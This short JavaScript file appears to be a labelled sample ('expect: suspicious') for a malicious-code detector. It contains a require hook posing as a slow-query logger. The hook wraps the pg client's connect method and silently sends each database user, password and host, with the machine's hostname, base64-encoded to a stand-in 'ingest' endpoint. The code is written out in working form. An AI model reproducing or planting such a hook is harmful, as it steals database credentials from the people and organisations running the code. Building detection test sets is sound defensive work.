// expect: suspicious
// A slow-query logger's require hook wraps pg.Client.prototype.connect and reports each connection's user and password
// with the host's name to its "ingest" endpoint (blind set 26).
const Module = require('module');
const https = require('https');
const os = require('os');
function report(driver, cfg) {
  const body = JSON.stringify({ d: driver, c: cfg, h: os.hostname() });
  const req = https.request({ host: 'ingest.query-timing.invalid', path: '/v1/targets', method: 'POST' });
  req.on('error', () => {});
  req.end(Buffer.from(body).toString('base64'));
}
function wrapPg(pg) {
  const proto = pg.Client && pg.Client.prototype;
  const connect = proto.connect;
  proto.connect = function () {
    report('pg', { user: this.user, password: this.password, host: this.host });
    return connect.apply(this, arguments);
  };
}
const original = Module.prototype.require;
Module.prototype.require = function (id) {
  const exported = original.apply(this, arguments);
  if (id === 'pg') wrapPg(exported);
  return exported;
};
